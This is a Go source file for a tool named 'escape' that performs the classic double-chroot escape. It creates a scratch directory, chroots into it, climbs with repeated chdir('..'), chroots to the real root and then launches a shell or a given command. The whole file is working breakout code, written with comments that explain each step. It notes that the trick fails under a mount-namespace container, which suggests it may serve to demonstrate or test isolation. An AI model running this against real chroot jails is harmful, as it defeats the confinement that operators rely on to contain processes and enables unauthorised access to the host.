// Command escape breaks out of a chroot(2) jail and runs a command in the
// real root. It is the classic double-chroot escape that chroot(2) itself
// warns about ("This call does not change the current working directory, so
// that after the call '.' can be outside the tree rooted at '/'").
//
// usage: escape [CMD [ARG...]]     (default: /bin/sh)
//
// It needs CAP_SYS_CHROOT, which root inside a plain chroot still has. Under
// `contain run` (a mount namespace and pivot_root) the same steps only reach
// the container's own root, and escape says so and exits with status 1.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"

	"golang.org/x/sys/unix"
)

// breakOut moves the process's root to the topmost directory it can reach.
// The steps, in order:
//
//  1. mkdir a scratch directory and chroot(2) into it. The kernel changes the
//     root but not the working directory, so "." is now outside the root.
//  2. chdir("..") many times. The kernel only stops ".." at the process's
//     root, and we are already outside it, so this climbs to the real "/".
//  3. chroot(".") makes that directory the root again.
func breakOut() error {
	scratch, err := os.MkdirTemp("/tmp", "escape-")
	if err != nil {
		// /tmp may be missing or read-only; any writable directory works.
		if scratch, err = os.MkdirTemp("/", "escape-"); err != nil {
			return fmt.Errorf("mkdir scratch directory: %w", err)
		}
	}
	defer os.Remove(scratch)
	if err := unix.Chroot(scratch); err != nil {
		return fmt.Errorf("chroot %s: %w", scratch, err)
	}
	for i := 0; i < 256; i++ {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return nil
}

// rootID names the directory that "/" is, by device and inode.
func rootID() (string, error) {
	var st unix.Stat_t
	if err := unix.Stat("/", &st); err != nil {
		return "", err
	}
	return fmt.Sprintf("%d:%d", st.Dev, st.Ino), nil
}

func main() {
	argv := os.Args[1:]
	if len(argv) == 0 {
		argv = []string{"/bin/sh"}
	}
	before, err := rootID()
	if err != nil {
		fmt.Fprintln(os.Stderr, "escape: stat /:", err)
		os.Exit(1)
	}
	if err := breakOut(); err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(1)
	}
	after, err := rootID()
	if err != nil {
		fmt.Fprintln(os.Stderr, "escape: stat /:", err)
		os.Exit(1)
	}
	if before == after {
		fmt.Fprintln(os.Stderr, "escape: failed: .. stops at this root, there is nothing above it")
		os.Exit(1)
	}
	fmt.Fprintln(os.Stderr, "escape: out of the chroot, running", argv[0], "in the real root")
	// Look the command up only now: "/" has changed, and so has what PATH
	// names.
	path, err := exec.LookPath(argv[0])
	if err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(127)
	}
	err = syscall.Exec(path, argv, os.Environ())
	fmt.Fprintf(os.Stderr, "escape: exec %s: %v\n", argv[0], err)
	os.Exit(127)
}
